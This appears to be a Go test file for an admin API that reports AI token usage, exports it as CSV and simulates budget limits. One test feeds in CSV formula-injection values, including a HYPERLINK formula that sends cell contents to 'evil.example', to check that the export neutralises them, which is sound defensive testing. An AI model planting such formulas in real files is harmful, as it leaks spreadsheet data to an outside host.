package admin_test

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"
	"time"

	gocmp "github.com/google/go-cmp/cmp"

	"github.com/tidegate/tidegate/events"
)

type usage struct {
	Period      string
	PeriodStart time.Time `json:"period_start"`
	PeriodEnd   time.Time `json:"period_end"`
	UsedTokens  int64     `json:"used_tokens"`
	Requests    int64
	Dimension   string
	By          []struct {
		Key          string
		Requests     int64
		InputTokens  int64 `json:"input_tokens"`
		OutputTokens int64 `json:"output_tokens"`
		TotalTokens  int64 `json:"total_tokens"`
	}
	Next string
}

func keys(u usage) (all []string) {
	for _, s := range u.By {
		all = append(all, s.Key)
	}
	return all
}

func TestUsageByEveryDimensionAndPeriod(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	summary := func(u *events.Usage) { u.Feature, u.Model, u.UserID = "summary", "gpt", "" }
	w.usage("p1", noon)
	w.usage("p1", noon.Add(time.Second))
	w.usage("p1", noon.AddDate(0, 0, -1), summary)
	w.usage("p1", noon.AddDate(0, -1, 0), summary)
	w.usage("p2", noon)
	for query, want := range map[string][]string{
		"":                           {"ocr", "summary"},
		"?by=&period=":               {"ocr", "summary"},
		"?by=feature&period=current": {"ocr", "summary"},
		"?by=model":                  {"claude", "gpt"},
		"?by=user":                   {"u1", ""},
		"?by=day":                    {"2026-11-22", "2026-11-23"},
		"?by=day&period=previous":    {"2026-10-23"},
		"?by=feature&period=2026-10": {"summary"},
		"?by=feature&period=2024-02": nil,
	} {
		got := get[usage](w, "/api/v1/ports/p1/ai-usage"+query)
		if diff := gocmp.Diff(want, keys(got)); diff != "" {
			t.Errorf("%s (-want +got):\n%s", query, diff)
		}
	}
	// In pages, the sums are still of all.
	for query, want := range map[string][]string{"?by=user&limit=1": {"u1"}, "?by=user&limit=1&after=220:u1": {""}, "?by=user&limit=2": {"u1", ""}} {
		got := get[usage](w, "/api/v1/ports/p1/ai-usage"+query)
		if diff := gocmp.Diff(want, keys(got)); diff != "" || got.UsedTokens != 330 || got.Requests != 3 || (got.Next == "220:u1") != (query == "?by=user&limit=1") {
			t.Errorf("%s: next %q, %d used (-want +got):\n%s", query, got.Next, got.UsedTokens, diff)
		}
	}
	for _, query := range []string{"limit=0", "limit=1001", "after=nonsense", "after=1:%00"} {
		w.do(request{method: "GET", path: "/api/v1/ports/p1/ai-usage?" + query, token: w.all}).want(w, 422)
	}
	w.do(request{method: "GET", path: "/api/v1/ports?after=%00", token: w.all}).want(w, 422)
	got := get[usage](w, "/api/v1/ports/p1/ai-usage")
	first := got.By[0]
	if got.UsedTokens != 330 || got.Requests != 3 || got.Period != "month" || got.Dimension != "feature" ||
		first.Requests != 2 || first.InputTokens != 200 || first.OutputTokens != 20 || first.TotalTokens != 220 {
		t.Errorf("got %+v", got)
	}

	// current and previous are the budget's; a month is a month.
	w.put(`{"enabled":true,"soft_cap_tokens":null,"hard_cap_tokens":null,"period":"day"}`, `"0"`).want(w, 200)
	for query, want := range map[string]int64{"period=current": 220, "period=previous": 110, "period=2026-11": 330} {
		if got := get[usage](w, "/api/v1/ports/p1/ai-usage?"+query); got.UsedTokens != want {
			t.Errorf("by the day, %s: %+v, want %d tokens", query, got, want)
		}
	}
	if got := get[usage](w, "/api/v1/ports/p1/ai-usage?period=2026-11"); got.Period != "month" || !got.PeriodEnd.Equal(time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC)) {
		t.Errorf("a month: %+v", got)
	}
}

// Keys are the services' to choose. None of them becomes a formula or breaks the
// file.
func TestCSVIsHarmless(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	odd := []string{`=HYPERLINK("http://evil.example?"&A1)`, "+1", "-2+3", "@SUM(1)", "＝1", `a,"b"`, "plain", "é 模型", " =1", "\ufeff=2", "a;=3", ";@4;;", "a;b"}
	for _, key := range odd {
		w.usage("p1", noon, func(u *events.Usage) { u.Feature = key })
	}
	w.usage("p1", noon, func(u *events.Usage) { u.UserID = "" })
	a := w.do(request{method: "GET", path: "/api/v1/ports/p1/ai-usage.csv?by=feature", token: w.all})
	a.want(w, http.StatusOK)
	if a.Header.Get("Content-Disposition") != `attachment; filename="ai-usage-p1-by-feature-2026-11-01.csv"` ||
		a.Header.Get("Content-Type") != "text/csv; charset=utf-8; header=present" || a.Header.Get("Cache-Control") != "no-store" {
		t.Errorf("headers: %v", a.Header)
	}
	rows, err := csv.NewReader(strings.NewReader(a.text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if diff := gocmp.Diff([]string{"feature", "requests", "input_tokens", "output_tokens", "total_tokens"}, rows[0]); diff != "" {
		t.Error(diff)
	}
	found := map[string]bool{}
	for _, row := range rows[1:] {
		found[row[0]] = true
		if strings.ContainsAny(row[0][:1], "=+-@\t\r") || strings.Join(row[1:], ",") != "1,100,10,110" {
			t.Errorf("a row that a spreadsheet might run, or a wrong one: %q", row)
		}
	}
	for _, key := range odd {
		if marked := strings.NewReplacer(";=", ";'=", ";@", ";'@").Replace(key); !found[marked] && !found["'"+key] {
			t.Errorf("%q is missing in %s", key, a.text)
		}
	}
	if !found["'＝1"] || found["'plain"] || found["' =1"] || !found["'\ufeff=2"] || !found["a;'=3"] || !found[";'@4;;"] || !found["a;b"] {
		t.Errorf("wrongly marked: %s", a.text)
	}
	byUser := w.do(request{method: "GET", path: "/api/v1/ports/p1/ai-usage.csv?by=user&period=previous", token: w.all})
	if byUser.text != "user,requests,input_tokens,output_tokens,total_tokens\r\n" {
		t.Errorf("a month without usage: %q", byUser.text)
	}
	head := w.do(request{method: "HEAD", path: "/api/v1/ports/p1/ai-usage.csv", token: w.all})
	if head.StatusCode != http.StatusOK || head.text != "" {
		t.Errorf("HEAD: %d %q", head.StatusCode, head.text)
	}
}

func TestSimulate(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	october := noon.AddDate(0, -1, 0)
	for i := range 5 {
		w.usage("p1", october.Add(time.Duration(i)*24*time.Hour)) // the 23rd to the 27th
	}
	w.usage("p1", noon)
	type simulation struct {
		PortID         string     `json:"port_id"`
		Of             string     `json:"of"`
		From           time.Time  `json:"from"`
		To             time.Time  `json:"to"`
		Calls          int64      `json:"calls"`
		RefusedCalls   int64      `json:"refused_calls"`
		RefusedTokens  int64      `json:"refused_tokens"`
		FirstRefusedAt *time.Time `json:"first_refused_at"`
		WarnedCalls    int64      `json:"warned_calls"`
		FirstWarnedAt  *time.Time `json:"first_warned_at"`
		UsedTokens     int64      `json:"used_tokens"`
	}
	at := func(day int) *time.Time { return new(time.Date(2026, 10, day, 12, 0, 0, 0, time.UTC)) }
	day := func(month, day int) time.Time { return time.Date(2026, time.Month(month), day, 0, 0, 0, 0, time.UTC) }
	for query, want := range map[string]simulation{
		"hard=330&soft=220": {Of: "previous", From: day(10, 1), To: day(11, 1), Calls: 5, RefusedCalls: 2, RefusedTokens: 220, FirstRefusedAt: at(26),
			WarnedCalls: 2, FirstWarnedAt: at(24), UsedTokens: 330},
		"":           {Of: "previous", From: day(10, 1), To: day(11, 1), Calls: 5, UsedTokens: 550},
		"hard=0":     {Of: "previous", From: day(10, 1), To: day(11, 1), Calls: 5, RefusedCalls: 5, RefusedTokens: 550, FirstRefusedAt: at(23)},
		"of=current": {Of: "current", From: day(11, 1), To: day(12, 1), Calls: 1, UsedTokens: 110},
		"of=2026-09": {Of: "2026-09", From: day(9, 1), To: day(10, 1)},
		"period=day": {Of: "previous", From: day(11, 22), To: day(11, 23)},
		// October 2026 begins on a Thursday and ends on a Saturday; 23 to 25 are one week, 26 and 27 the next.
		"period=week&of=2026-10&hard=220": {Of: "2026-10", From: day(9, 28), To: day(11, 2), Calls: 5, RefusedCalls: 1, RefusedTokens: 110, FirstRefusedAt: at(25), UsedTokens: 440},
	} {
		want.PortID = "p1"
		got := get[simulation](w, "/api/v1/ports/p1/ai-budget/simulate?"+query)
		if diff := gocmp.Diff(want, got); diff != "" {
			t.Errorf("%s (-want +got):\n%s", query, diff)
		}
	}
	// The stored period decides what previous is.
	w.put(`{"enabled":false,"soft_cap_tokens":null,"hard_cap_tokens":null,"period":"week"}`, `"0"`).want(w, 200)
	if got := get[simulation](w, "/api/v1/ports/p1/ai-budget/simulate"); !got.From.Equal(day(11, 16)) || !got.To.Equal(day(11, 23)) {
		t.Errorf("by the week: %+v", got)
	}
}

func TestSimulateLimit(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	users := func(name string) func(*events.Usage) { return func(u *events.Usage) { u.UserID = name } }
	at := func(day, minute int) time.Time { return time.Date(2026, 11, day, 12, minute, 0, 0, time.UTC) } // noon is the 23rd
	for i, name := range []string{"anna", "anna", "ben", "anna", "", "ben"} {
		w.usage("p1", at(22, i), users(name))
	}
	w.usage("p1", at(23, -1), users("anna"))
	w.usage("p2", at(22, 0), users("anna"))
	const path = budgetPath + "/simulate-limit"
	try := func(query, body string) answer {
		t.Helper()
		return w.do(request{method: "POST", path: path + query, token: w.onlyP1, body: body})
	}
	for _, c := range []struct{ query, body, want string }{
		{"", `{"name":"each-user","per":"user_id","window":"day","soft":100,"hard":220}`,
			`{"port_id":"p1","of":"previous","from":"2026-11-22T00:00:00Z","to":"2026-11-23T00:00:00Z","unit":"tokens","calls":6,"refused_calls":1,"refused":110,
			"first_refused_at":"2026-11-22T12:03:00Z","warned_calls":5,"first_warned_at":"2026-11-22T12:00:00Z","used":550,"values":3,"refused_values":1,
			"top":[{"value":"anna","refused_calls":1,"refused":110,"first_refused_at":"2026-11-22T12:03:00Z"}]}`},
		{"?of=2026-11", `{"name":"calls","window":"hour","unit":"requests","hard":5}`,
			`{"port_id":"p1","of":"2026-11","from":"2026-11-01T00:00:00Z","to":"2026-12-01T00:00:00Z","unit":"requests","calls":7,"refused_calls":1,"refused":1,
			"first_refused_at":"2026-11-22T12:05:00Z","warned_calls":0,"first_warned_at":null,"used":6,"values":null,"refused_values":null,"top":null}`},
		{"", `{"name":"all-time","window":"total","unit":"weighted","weights":{"input":0.005},"hard":10}`, // October
			`{"port_id":"p1","of":"previous","from":"2026-10-01T00:00:00Z","to":"2026-11-01T00:00:00Z","unit":"weighted","calls":0,"refused_calls":0,"refused":0,
			"first_refused_at":null,"warned_calls":0,"first_warned_at":null,"used":0,"values":null,"refused_values":null,"top":null}`},
	} {
		a := try(c.query, c.body)
		a.want(w, http.StatusOK)
		var got, want any
		a.into(w, &got)
		answer{text: c.want}.into(w, &want)
		if diff := gocmp.Diff(want, got); diff != "" {
			t.Errorf("%s %s (-want +got):\n%s", c.query, c.body, diff)
		}
	}
	if b := get[budget](w, budgetPath); b.Version != 0 {
		t.Error("a limit that is tried is stored")
	}
	for body, want := range map[string][3]string{
		`{"name":"a","window":"year","hard":1}`:                           {"limit (a).window", `"year"`, "hour, day, week, month or total"},
		`{"name":"a","window":"day","hard":1,"macht":{}}`:                 {"limit.macht", "{}", "there are: name, match"},
		`{"name":"a","window":"day","hard":"1"}`:                          {"limit.hard", `"1"`, "whole number"},
		`{"name":"a","window":"day","unit":"weighted","weights":{"x":1}}`: {"limit.weights.x", "1", "no field of a limit"},
		`{"name":"a","window":"day"}`:                                     {"limit (a).hard", `"null"`, "limits nothing"},
	} {
		try("", body).wantField(w, want[0], want[1], want[2])
	}
	try("?of=tomorrow", `{"name":"a","window":"day","hard":1}`).wantField(w, "of", `"tomorrow"`, "current, previous")
	for _, body := range []string{"", "null", "[]", "{"} {
		if a := try("", body); a.StatusCode != http.StatusBadRequest && a.StatusCode != http.StatusUnsupportedMediaType {
			t.Errorf("%q: %d %s", body, a.StatusCode, a.text)
		}
	}
}
